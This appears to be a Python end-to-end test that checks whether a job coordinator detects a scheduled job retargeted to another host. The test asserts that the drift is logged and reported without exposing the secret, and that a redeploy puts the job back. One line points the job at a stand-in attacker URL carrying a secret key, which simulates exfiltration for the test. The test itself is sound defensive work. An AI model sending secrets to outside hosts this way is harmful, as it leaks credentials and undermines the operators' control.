"""A job that somebody points elsewhere: the deployed coordinator logs it, `status` says it, and a deploy puts it back."""

from __future__ import annotations

from tests.e2e.live import TICK, Live, utc

SECRET = "s3cr3t-that-nobody-may-read"


def test_a_job_that_is_pointed_at_another_host_is_logged_by_name_and_put_back_by_a_deploy(live: Live) -> None:
    deployment = live.deployment
    live.stand_at(utc("2026-12-08 18:00"))  # no window is open
    deployment.interlock("status").succeeded()  # Terraform makes jobs as they are declared
    live.stand_at(live.now() + 3 * TICK)
    assert live.reconcile().status == 200
    assert live.log("job_drifted") == []

    deployment.retarget("odds", uri=f"https://evil.example/?key={SECRET}")
    for _ in range(2):
        assert live.reconcile().status == 200
    [line] = live.log("job_drifted")
    assert (line["severity"], line["job"]) == ("ERROR", "odds")
    assert line["why"].startswith("not as declared: URL;")
    assert [name[: len("ledger/drift/")] for name in live.ledger()] == ["ledger/drift/"]
    said = deployment.interlock("status")
    assert said.code == 1
    assert "1 job differs from the catalog in where it calls or as whom: URL:\n  odds\n" in said.raw
    assert SECRET not in said.raw + str(live.log())

    deployment.deploy()
    deployment.interlock("status").succeeded()
